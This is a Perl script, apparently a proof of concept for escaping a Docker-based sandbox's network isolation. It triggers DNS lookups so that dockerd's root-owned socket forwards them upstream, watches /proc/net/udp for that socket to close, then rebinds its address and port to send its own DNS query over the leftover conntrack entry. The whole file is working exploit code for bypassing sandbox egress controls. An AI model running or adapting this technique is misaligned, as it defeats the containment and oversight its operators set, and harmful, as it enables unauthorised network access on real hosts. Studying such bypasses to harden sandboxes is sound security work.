# SPDX-License-Identifier: MIT
# ride-dns-flow.pl SRC DNS WILDCARD NAME, as the sandbox user: look up new
# names under WILDCARD (so that the sandbox's resolver forwards them to
# Docker's embedded DNS, which forwards them upstream from a socket of
# dockerd's, uid 0, in this network namespace), watching /proc/net/udp for
# sockets talking to DNS:53; once such a socket is gone, bind its address
# and port and ask DNS for NAME on the conntrack entry it left. Prints
# "seen PORTS", then "answer A.B.C.D" for each answer, "no answer" else.
use strict; use Socket;
my ($src, $dst, $trigger, $name) = @ARGV;
my $dsthex = sprintf("%08X", unpack("V", inet_aton($dst)));
my $q = pack("nnnnnn", 0x4242, 0x0100, 1, 0, 0, 0)
      . join("", map { chr(length $_) . $_ } split /\./, $name) . "\0" . pack("nn", 1, 1);
my %seen;
for my $try (1..10) {
  my $pid = fork();
  if (!$pid) { close STDOUT; exec("getent", "ahosts", "t$try-$$.$trigger"); }
  while (waitpid($pid, 1) == 0) {
    open(my $f, "<", "/proc/net/udp") or die "/proc/net/udp: $!";
    while (<$f>) { my @c = split; next unless $c[2] && $c[2] eq "$dsthex:0035";
                   $seen{hex((split /:/, $c[1])[1])} = 1; }
    close $f;
  }
  last if %seen;
}
print "seen ", join(",", keys %seen), "\n";
for my $port (keys %seen) {
  socket(my $s, PF_INET, SOCK_DGRAM, 0) or die;
  my $t = time + 3;
  until (bind($s, sockaddr_in($port, inet_aton($src)))) { die "bind: $!" if time > $t; select(undef, undef, undef, 0.01); }
  connect($s, sockaddr_in(53, inet_aton($dst))) or die "connect: $!";
  send($s, $q, 0);
  my $rin = ''; vec($rin, fileno($s), 1) = 1;
  if (select($rin, undef, undef, 2) && recv($s, my $buf, 512, 0)) {
    my ($id, $flags, $qd, $an) = unpack("nnnn", $buf);
    print "answer ", join(".", unpack("C4", substr($buf, -4))), "\n" if $an;
  } else { print "no answer\n"; }
}
